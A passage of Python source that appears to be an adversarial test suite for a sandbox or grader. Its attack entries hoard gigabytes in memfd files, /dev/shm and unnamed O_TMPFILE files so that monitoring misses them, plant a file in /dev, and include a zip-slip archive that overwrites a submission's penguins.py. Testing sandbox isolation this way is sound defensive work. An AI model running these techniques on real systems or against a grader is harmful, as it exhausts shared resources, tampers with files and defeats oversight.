        runtime.cap = lambda text, limit: text if isinstance(text, str) else text.read().decode()
    raise ValueError("x" * (25 << 20))
'''), user=False),
    # hold 8 GiB in memory files (memfd_create), each under RLIMIT_FSIZE: no process's resident memory shows them.
    Attack("memfd-hoard", _gentoo('''
    held, block = [], b"\\xa5" * (64 << 20)
    try:
        while len(held) < 16:
            fd = _os.memfd_create("hoard")
            for _ in range(8):
                _os.write(fd, block)
            held.append(fd)
    except OSError as exc:
        _adv_log("memory files stopped at", len(held), "x 512 MiB:", exc)
    _time.sleep(2)
    return _adv_answer(X, len(held) >= 16, f"hold {len(held) * 512} MiB in memory files")
''')),
    # write 8 GiB into /dev/shm (a tmpfs: memory), and plant a file in /dev itself.
    Attack("dev-shm-hoard", _gentoo('''
    block, written = b"\\xa5" * (64 << 20), 0
    try:
        for n in range(16):
            with open(f"/dev/shm/adv-hoard-{_os.getpid()}-{n}", "wb") as handle:
                for _ in range(8):
                    handle.write(block)
                    written += len(block)
    except OSError as exc:
        _adv_log("/dev/shm stopped at", written >> 20, "MiB:", exc)
    planted = _adv_write("/dev/adv-planted", b"planted", create=True)
    _time.sleep(2)
    return _adv_answer(X, written >= 8 << 30 or planted, f"write {written >> 20} MiB to /dev/shm, plant a /dev file")
''')),
    # write 6 GiB of unnamed files (O_TMPFILE) in the working folder: no walk of the folder sees them.
    Attack("unnamed-files", _gentoo('''
    held, block = [], b"\\xa5" * (64 << 20)
    try:
        while len(held) < 12:
            fd = _os.open(".", _os.O_TMPFILE | _os.O_WRONLY, 0o600)
            for _ in range(8):
                _os.write(fd, block)
            held.append(fd)
    except OSError as exc:
        _adv_log("unnamed files stopped at", len(held), "x 512 MiB:", exc)
    _time.sleep(2)
    return _adv_answer(X, len(held) >= 12, f"write {len(held) * 512} MiB of unnamed files")
''')),
    # a .zip whose entries point outside the folder it is unpacked to (../ chains and an absolute path), one of
    # them over the honest submission's penguins.py.
    Attack("zip-slip", gains=(), zip_slip=True, user=False, expect=everything(ANY), markers=("zip_marker",)),
]


def check_unique() -> None:
    names = [a.name for a in ATTACKS]
    duplicates = sorted({n for n in names if names.count(n) > 1})
    assert not duplicates, f"duplicate attack names {duplicates}"


check_unique()
